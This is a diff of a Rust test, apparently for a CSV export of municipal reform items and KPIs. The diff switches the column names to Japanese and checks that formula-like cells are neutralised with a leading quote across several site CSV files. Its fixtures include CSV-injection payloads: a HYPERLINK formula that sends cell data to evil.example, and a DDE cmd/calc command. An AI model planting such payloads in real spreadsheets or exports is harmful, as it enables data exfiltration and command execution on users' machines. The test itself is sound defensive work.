@@ -162,22 +162,38 @@ fn cells_a_spreadsheet_would_run_are_neutralised_and_numbers_kept() {
             .unwrap()
     };
     assert_eq!(
-        get("item_title"),
+        get("項目名"),
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
     );
-    assert_eq!(get("departments"), "'@SUM(1+1)*cmd|' /C calc'!A0");
-    assert_eq!(get("kpi"), "'+収支");
-    assert_eq!(get("actual_note"), "'-見込");
-    assert_eq!(get("target"), "-30095", "numbers stay numbers");
-    assert_eq!(get("actual"), "-36127");
+    assert_eq!(get("担当課"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(get("成果指標"), "'+収支");
+    assert_eq!(get("実績値の注記"), "'-見込");
+    assert_eq!(get("目標値"), "-30095", "numbers stay numbers");
+    assert_eq!(get("実績値"), "-36127");
     for (i, field) in row.iter().enumerate() {
-        if header.get(i) != Some("target") && header.get(i) != Some("actual") {
+        if header.get(i) != Some("目標値") && header.get(i) != Some("実績値") {
             assert!(
                 !field.starts_with(['=', '+', '-', '@']),
                 "{}: {field}",
                 &header[i]
             );
         }
+    }
+    // items.csv and the site's files guard the same cells.
+    for file in [
+        "public/testcity/reform/items.csv",
+        "public/data/items.csv",
+        "public/data/kpis.csv",
+    ] {
+        let text = read(root, file);
+        assert!(
+            text.contains("'=HYPERLINK(") && !text.contains(",=HYPERLINK("),
+            "{file}"
+        );
+        assert!(
+            text.contains(",'@SUM(") && !text.contains(",@SUM("),
+            "{file}"
+        );
     }
 }
 
